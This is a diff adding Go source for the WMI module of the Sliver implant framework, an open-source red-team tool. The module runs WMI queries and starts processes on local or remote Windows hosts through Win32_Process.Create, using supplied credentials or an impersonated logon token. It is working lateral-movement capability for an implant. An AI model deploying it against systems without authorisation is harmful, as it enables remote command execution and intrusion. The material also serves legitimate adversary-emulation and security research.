@@ -0,0 +1,524 @@
+// +build windows
+
+package wmi
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"fmt"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"runtime"
+	"strings"
+	"sync"
+	"syscall"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/bishopfox/sliver/sliver/syscalls"
+
+	"golang.org/x/sys/windows"
+)
+
+const (
+	defaultNamespace = `root\cimv2`
+
+	coinitMultithreaded         = 0x0
+	clsctxInprocServer          = 0x1
+	rpcAuthnLevelDefault        = 0
+	rpcAuthnLevelPktPrivacy     = 6
+	rpcImpLevelImpersonate      = 3
+	rpcAuthnWinNT               = 10
+	rpcAuthzNone                = 0
+	eoacNone                    = 0x0
+	eoacDynamicCloaking         = 0x40
+	secWinNTAuthIdentityUnicode = 0x2
+
+	wbemFlagReturnImmediately = 0x10
+	wbemFlagForwardOnly       = 0x20
+	wbemFlagNonSystemOnly     = 0x40
+	wbemInfinite              = 0xFFFFFFFF
+	wbemSNoMoreData           = 0x40005
+
+	sFalse           = 0x1
+	rpcETooLate      = 0x80010119
+	variantAlphaBool = 0x2
+
+	vtEmpty = 0x0
+	vtNull  = 0x1
+	vtI4    = 0x3
+	vtBSTR  = 0x8
+	vtUI4   = 0x13
+	vtArray = 0x2000
+
+	cimFlagArray = 0x2000
+)
+
+// vtable indexes of the methods we call
+const (
+	release = 2
+
+	// IWbemLocator
+	connectServer = 3
+
+	// IWbemServices
+	getObject  = 6
+	execQuery  = 20
+	execMethod = 24
+
+	// IEnumWbemClassObject
+	enumNext = 4
+
+	// IWbemClassObject
+	get              = 4
+	put              = 5
+	beginEnumeration = 8
+	next             = 9
+	endEnumeration   = 10
+	spawnInstance    = 15
+	getMethod        = 19
+)
+
+var (
+	clsidWbemLocator = windows.GUID{Data1: 0x4590f811, Data2: 0x1d3a, Data3: 0x11d0, Data4: [8]byte{0x89, 0x1f, 0x00, 0xaa, 0x00, 0x4b, 0x2e, 0x24}}
+	iidIWbemLocator  = windows.GUID{Data1: 0xdc12a687, Data2: 0x737f, Data3: 0x11cf, Data4: [8]byte{0x88, 0x4d, 0x00, 0xaa, 0x00, 0x4b, 0x2e, 0x24}}
+
+	cimTypes = map[int32]string{
+		2:   "sint16",
+		3:   "sint32",
+		4:   "real32",
+		5:   "real64",
+		8:   "string",
+		11:  "boolean",
+		13:  "object",
+		16:  "sint8",
+		17:  "uint8",
+		18:  "uint16",
+		19:  "uint32",
+		20:  "sint64",
+		21:  "uint64",
+		101: "datetime",
+		102: "reference",
+		103: "char16",
+	}
+
+	wbemErrors = map[uint32]string{
+		0x80041001: "WMI call failed",
+		0x80041002: "WMI object not found",
+		0x80041003: "WMI access denied",
+		0x8004100E: "Invalid WMI namespace",
+		0x80041010: "Invalid WMI class",
+		0x80041017: "Invalid WQL query",
+		0x80041064: "User credentials cannot be used for local connections",
+		0x800706BA: "The RPC server is unavailable",
+	}
+
+	securityOnce = &sync.Once{}
+)
+
+// comObject - Any COM interface, each of which starts with its vtable
+type comObject struct {
+	vtbl *[32]uintptr
+}
+
+func (obj *comObject) call(method int, args ...uintptr) uintptr {
+	var argv [14]uintptr
+	copy(argv[:], args)
+	hr, _, _ := syscall.Syscall15(obj.vtbl[method], uintptr(len(args)+1), uintptr(unsafe.Pointer(obj)),
+		argv[0], argv[1], argv[2], argv[3], argv[4], argv[5], argv[6],
+		argv[7], argv[8], argv[9], argv[10], argv[11], argv[12], argv[13])
+	return hr
+}
+
+func (obj *comObject) release() {
+	if obj != nil {
+		obj.call(release)
+	}
+}
+
+func failed(hr uintptr) bool {
+	return int32(hr) < 0
+}
+
+// hresultError - WMI errors aren't in the system message table, so we name
+// the common ones ourselves
+func hresultError(hr uintptr) error {
+	code := uint32(hr)
+	if msg, ok := wbemErrors[code]; ok {
+		return fmt.Errorf("%s (0x%08x)", msg, code)
+	}
+	if code&0xFFFF0000 == 0x80070000 {
+		return syscall.Errno(code & 0xFFFF)
+	}
+	return fmt.Errorf("HRESULT 0x%08x", code)
+}
+
+func comError(err error) error {
+	if errno, ok := err.(syscall.Errno); ok {
+		return hresultError(uintptr(errno))
+	}
+	return err
+}
+
+// allocBSTR - Empty strings are passed as NULL, free with SysFreeString
+func allocBSTR(value string) *uint16 {
+	if value == "" {
+		return nil
+	}
+	str, err := windows.UTF16PtrFromString(value)
+	if err != nil {
+		return nil
+	}
+	return syscalls.SysAllocString(str)
+}
+
+// services - A connected IWbemServices and the credentials its proxy uses,
+// which have to be applied to any other proxies we get from it
+type services struct {
+	*comObject
+	auth *syscalls.COAuthIdentity
+}
+
+func (svc *services) setBlanket(proxy *comObject) error {
+	capabilities := uint32(eoacDynamicCloaking)
+	if svc.auth != nil {
+		capabilities = eoacNone
+	}
+	err := syscalls.CoSetProxyBlanket(unsafe.Pointer(proxy), rpcAuthnWinNT, rpcAuthzNone, nil,
+		rpcAuthnLevelPktPrivacy, rpcImpLevelImpersonate, svc.auth, capabilities)
+	return comError(err)
+}
+
+func authIdentity(conn *sliverpb.WMIConnection) *syscalls.COAuthIdentity {
+	if conn.Username == "" {
+		return nil
+	}
+	domain, username := conn.Domain, conn.Username
+	if parts := strings.SplitN(username, `\`, 2); len(parts) == 2 {
+		domain, username = parts[0], parts[1]
+	}
+	user := windows.StringToUTF16(username)
+	auth := &syscalls.COAuthIdentity{
+		User:       &user[0],
+		UserLength: uint32(len(user) - 1),
+		Flags:      secWinNTAuthIdentityUnicode,
+	}
+	if domain != "" {
+		domainName := windows.StringToUTF16(domain)
+		auth.Domain = &domainName[0]
+		auth.DomainLength = uint32(len(domainName) - 1)
+	}
+	password := windows.StringToUTF16(conn.Password)
+	auth.Password = &password[0]
+	auth.PasswordLength = uint32(len(password) - 1)
+	return auth
+}
+
+// withServices - Connect to the namespace and call fn, COM is initialized on
+// (and the connection bound to) a locked OS thread which impersonates the
+// token if one is given and we haven't been given credentials
+func withServices(conn *sliverpb.WMIConnection, token windows.Token, fn func(*services) error) error {
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+
+	if token != 0 && conn.Username == "" {
+		err := syscalls.ImpersonateLoggedOnUser(token)
+		if err != nil {
+			return err
+		}
+		defer windows.RevertToSelf()
+	}
+
+	err := syscalls.CoInitializeEx(0, coinitMultithreaded)
+	if err != nil && err != syscall.Errno(sFalse) {
+		return comError(err)
+	}
+	defer syscalls.CoUninitialize()
+
+	// Process wide and can only be set once, if the host process already
+	// set it we just have to live with its settings
+	securityOnce.Do(func() {
+		err := syscalls.CoInitializeSecurity(0, -1, 0, 0, rpcAuthnLevelDefault, rpcImpLevelImpersonate, 0, eoacDynamicCloaking, 0)
+		if err != nil && err != syscall.Errno(rpcETooLate) {
+			// {{if .Debug}}
+			log.Printf("CoInitializeSecurity failed: %v", comError(err))
+			// {{end}}
+		}
+	})
+
+	var locator *comObject
+	err = syscalls.CoCreateInstance(&clsidWbemLocator, 0, clsctxInprocServer, &iidIWbemLocator, unsafe.Pointer(&locator))
+	if err != nil {
+		return comError(err)
+	}
+	defer locator.release()
+
+	namespace := conn.Namespace
+	if namespace == "" {
+		namespace = defaultNamespace
+	}
+	if conn.Host != "" {
+		namespace = fmt.Sprintf(`\\%s\%s`, conn.Host, strings.TrimLeft(namespace, `\`))
+	}
+	resource := allocBSTR(namespace)
+	defer syscalls.SysFreeString(resource)
+
+	svc := &services{auth: authIdentity(conn)}
+	var user, password, authority *uint16
+	if svc.auth != nil {
+		user = allocBSTR(windows.UTF16PtrToString(svc.auth.User))
+		if svc.auth.Domain != nil {
+			authority = allocBSTR("ntlmdomain:" + windows.UTF16PtrToString(svc.auth.Domain))
+		}
+		password = allocBSTR(conn.Password)
+	}
+	defer syscalls.SysFreeString(user)
+	defer syscalls.SysFreeString(password)
+	defer syscalls.SysFreeString(authority)
+
+	var namespaceObj *comObject
+	hr := locator.call(connectServer, uintptr(unsafe.Pointer(resource)), uintptr(unsafe.Pointer(user)), uintptr(unsafe.Pointer(password)), 0, 0, uintptr(unsafe.Pointer(authority)), 0, uintptr(unsafe.Pointer(&namespaceObj)))
+	if failed(hr) {
+		return hresultError(hr)
+	}
+	svc.comObject = namespaceObj
+	defer svc.release()
+
+	err = svc.setBlanket(svc.comObject)
+	if err != nil {
+		return err
+	}
+	err = fn(svc)
+	runtime.KeepAlive(svc.auth)
+	return err
+}
+
+// Query - Run a WQL query, the connection's credentials take precedence over
+// the token (if any)
+func Query(conn *sliverpb.WMIConnection, token windows.Token, query string) ([]*sliverpb.WMIObject, error) {
+	objects := []*sliverpb.WMIObject{}
+	err := withServices(conn, token, func(svc *services) error {
+		language := allocBSTR("WQL")
+		defer syscalls.SysFreeString(language)
+		wql := allocBSTR(query)
+		defer syscalls.SysFreeString(wql)
+
+		var enum *comObject
+		hr := svc.call(execQuery, uintptr(unsafe.Pointer(language)), uintptr(unsafe.Pointer(wql)), wbemFlagForwardOnly|wbemFlagReturnImmediately, 0, uintptr(unsafe.Pointer(&enum)))
+		if failed(hr) {
+			return hresultError(hr)
+		}
+		defer enum.release()
+		err := svc.setBlanket(enum)
+		if err != nil {
+			return err
+		}
+
+		for {
+			var obj *comObject
+			var returned uint32
+			hr = enum.call(enumNext, wbemInfinite, 1, uintptr(unsafe.Pointer(&obj)), uintptr(unsafe.Pointer(&returned)))
+			if failed(hr) {
+				return hresultError(hr)
+			}
+			if returned == 0 {
+				return nil
+			}
+			object, err := readObject(obj)
+			obj.release()
+			if err != nil {
+				return err
+			}
+			objects = append(objects, object)
+		}
+	})
+	return objects, err
+}
+
+// Exec - Start a process with Win32_Process.Create, returns the pid and the
+// method's return value (zero on success)
+func Exec(conn *sliverpb.WMIConnection, token windows.Token, commandLine string, directory string) (uint32, uint32, error) {
+	var pid, returnValue uint32
+	err := withServices(conn, token, func(svc *services) error {
+		className := allocBSTR("Win32_Process")
+		defer syscalls.SysFreeString(className)
+		methodName := allocBSTR("Create")
+		defer syscalls.SysFreeString(methodName)
+
+		var class *comObject
+		hr := svc.call(getObject, uintptr(unsafe.Pointer(className)), 0, 0, uintptr(unsafe.Pointer(&class)), 0)
+		if failed(hr) {
+			return hresultError(hr)
+		}
+		defer class.release()
+
+		var signature *comObject
+		hr = class.call(getMethod, uintptr(unsafe.Pointer(methodName)), 0, uintptr(unsafe.Pointer(&signature)), 0)
+		if failed(hr) {
+			return hresultError(hr)
+		}
+		defer signature.release()
+
+		var inParams *comObject
+		hr = signature.call(spawnInstance, 0, uintptr(unsafe.Pointer(&inParams)))
+		if failed(hr) {
+			return hresultError(hr)
+		}
+		defer inParams.release()
+		err := putString(inParams, "CommandLine", commandLine)
+		if err != nil {
+			return err
+		}
+		if directory != "" {
+			err = putString(inParams, "CurrentDirectory", directory)
+			if err != nil {
+				return err
+			}
+		}
+
+		var outParams *comObject
+		hr = svc.call(execMethod, uintptr(unsafe.Pointer(className)), uintptr(unsafe.Pointer(methodName)), 0, 0, uintptr(unsafe.Pointer(inParams)), uintptr(unsafe.Pointer(&outParams)), 0)
+		if failed(hr) {
+			return hresultError(hr)
+		}
+		defer outParams.release()
+		returnValue, err = getUint32(outParams, "ReturnValue")
+		if err != nil {
+			return err
+		}
+		pid, _ = getUint32(outParams, "ProcessId")
+		return nil
+	})
+	return pid, returnValue, err
+}
+
+// readObject - Read all of the non-system properties of an object
+func readObject(obj *comObject) (*sliverpb.WMIObject, error) {
+	hr := obj.call(beginEnumeration, wbemFlagNonSystemOnly)
+	if failed(hr) {
+		return nil, hresultError(hr)
+	}
+	defer obj.call(endEnumeration)
+
+	object := &sliverpb.WMIObject{}
+	for {
+		var name *uint16
+		var value syscalls.Variant
+		var cimType int32
+		hr = obj.call(next, 0, uintptr(unsafe.Pointer(&name)), uintptr(unsafe.Pointer(&value)), uintptr(unsafe.Pointer(&cimType)), 0)
+		if failed(hr) {
+			return nil, hresultError(hr)
+		}
+		if hr == wbemSNoMoreData {
+			return object, nil
+		}
+		object.Properties = append(object.Properties, &sliverpb.WMIProperty{
+			Name:   windows.UTF16PtrToString(name),
+			Type:   cimTypeName(cimType),
+			Values: variantValues(&value),
+		})
+		syscalls.SysFreeString(name)
+		syscalls.VariantClear(&value)
+	}
+}
+
+func cimTypeName(cimType int32) string {
+	name, ok := cimTypes[cimType&^cimFlagArray]
+	if !ok {
+		name = fmt.Sprintf("cim(%d)", cimType&^cimFlagArray)
+	}
+	if cimType&cimFlagArray != 0 {
+		name += "[]"
+	}
+	return name
+}
+
+// variantValues - NULLs have no values, scalars have one
+func variantValues(value *syscalls.Variant) []string {
+	values := []string{}
+	if value.VT == vtEmpty || value.VT == vtNull {
+		return values
+	}
+	if value.VT&vtArray == 0 {
+		return append(values, variantString(value))
+	}
+	array := uintptr(value.Val)
+	var lower, upper int32
+	if syscalls.SafeArrayGetLBound(array, 1, &lower) != nil || syscalls.SafeArrayGetUBound(array, 1, &upper) != nil {
+		return values
+	}
+	for index := lower; index <= upper; index++ {
+		element := syscalls.Variant{VT: value.VT &^ vtArray}
+		err := syscalls.SafeArrayGetElement(array, &index, unsafe.Pointer(&element.Val))
+		if err != nil {
+			continue
+		}
+		values = append(values, variantString(&element))
+		syscalls.VariantClear(&element)
+	}
+	return values
+}
+
+// variantString - Let oleaut32 do the conversion, embedded objects can't be
+// converted so we just note that there is one
+func variantString(value *syscalls.Variant) string {
+	str := syscalls.Variant{}
+	err := syscalls.VariantChangeType(&str, value, variantAlphaBool, vtBSTR)
+	if err != nil {
+		return fmt.Sprintf("<vt %d>", value.VT)
+	}
+	defer syscalls.VariantClear(&str)
+	return windows.UTF16PtrToString((*uint16)(unsafe.Pointer(uintptr(str.Val))))
+}
+
+func putString(obj *comObject, name string, value string) error {
+	propName, err := windows.UTF16PtrFromString(name)
+	if err != nil {
+		return err
+	}
+	variant := syscalls.Variant{VT: vtBSTR}
+	bstr := allocBSTR(value)
+	variant.Val = int64(uintptr(unsafe.Pointer(bstr)))
+	defer syscalls.VariantClear(&variant)
+	hr := obj.call(put, uintptr(unsafe.Pointer(propName)), 0, uintptr(unsafe.Pointer(&variant)), 0)
+	if failed(hr) {
+		return hresultError(hr)
+	}
+	return nil
+}
+
+func getUint32(obj *comObject, name string) (uint32, error) {
+	propName, err := windows.UTF16PtrFromString(name)
+	if err != nil {
+		return 0, err
+	}
+	variant := syscalls.Variant{}
+	hr := obj.call(get, uintptr(unsafe.Pointer(propName)), 0, uintptr(unsafe.Pointer(&variant)), 0, 0)
+	if failed(hr) {
+		return 0, hresultError(hr)
+	}
+	defer syscalls.VariantClear(&variant)
+	if variant.VT != vtI4 && variant.VT != vtUI4 {
+		return 0, fmt.Errorf("%s is not an integer (vt %d)", name, variant.VT)
+	}
+	return uint32(variant.Val), nil
+}